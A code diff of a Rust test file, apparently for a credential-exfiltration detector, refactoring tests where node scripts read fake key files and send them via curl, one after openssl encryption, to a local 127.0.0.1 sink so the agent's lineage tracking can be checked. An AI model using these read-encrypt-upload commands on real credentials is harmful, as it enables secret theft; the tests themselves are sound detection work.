@@ -244,22 +244,18 @@ pub fn given_to_a_child() {
     let scratch = Scratch::new();
     let sink = Sink::http();
     let agent = Agent::start(&scratch);
-    let run = |script: &str, file: &Path, more: &Path| {
-        act("node")
-            .args(["-e", script])
-            .arg(file)
-            .arg(format!("http://127.0.0.1:{}/in", sink.port))
-            .arg(more)
-            .limit(30)
-            .run()
-            .ok()
-    };
     let (_, file) = key(&scratch, "home/fed.json");
     // Begun before the key is read, so that nothing comes by the fork.
     let script = "const { spawn } = require('child_process');
 const curl = spawn('curl', ['-s', '-d', '@-', process.argv[2]], { stdio: ['pipe', 'ignore', 'ignore'] });
 setTimeout(() => curl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);";
-    let fed = run(script, &file, Path::new(""));
+    let fed = act("node")
+        .args(["-e", script])
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .limit(30)
+        .run()
+        .ok();
     agent.settle();
     let seen = sent(&agent, fed.pid);
     let text = list(&agent.tree(fed.pid));
@@ -275,28 +271,30 @@ setTimeout(() => curl.stdin.end(require('fs').readFileSync(process.argv[1])), 70
         "{text}"
     );
 
+    // Sent by somebody who has nothing from node.
     let (_, file) = key(&scratch, "home/packed.json");
-    let packed = scratch.join("packed");
-    let script = "const { spawn, spawnSync } = require('child_process');
-const enc = ['enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:x', '-out', process.argv[3]];
+    let script = "const { spawn } = require('child_process');
+const enc = ['enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:x', '-out', process.argv[2]];
 const openssl = spawn('openssl', enc, { stdio: ['pipe', 'ignore', 'ignore'] });
-setTimeout(() => openssl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);
-openssl.on('exit', () => spawnSync('curl', ['-s', '-T', process.argv[3], process.argv[2]]));";
-    let done = run(script, &file, &packed);
+setTimeout(() => openssl.stdin.end(require('fs').readFileSync(process.argv[1])), 700);";
+    let done = sh("node -e \"$4\" \"$1\" \"$3\"; curl -s -T \"$3\" \"$2\"; :")
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .arg(scratch.join("packed"))
+        .arg(script)
+        .limit(30)
+        .run()
+        .ok();
     let event = agent.expect("what was packed", done.pid, |e| {
         e.is("credential_sent") && e.in_tree(done.pid) && e.executable().ends_with("/curl")
     });
     assert_eq!(event.grade(), "lineage", "{}", event.brief());
-    assert_eq!(
-        way(&event),
-        [
-            step("read", "node"),
-            step("socket", "openssl"),
-            step("file", "curl")
-        ],
-        "{}",
-        event.brief()
-    );
+    let expected = [
+        step("read", "node"),
+        step("socket", "openssl"),
+        step("file", "curl"),
+    ];
+    assert_eq!(way(&event), expected, "{}", event.brief());
 }
 
 /// git's daemon that keeps credentials for a while: told by one program over a socket with a name, and asked by another.
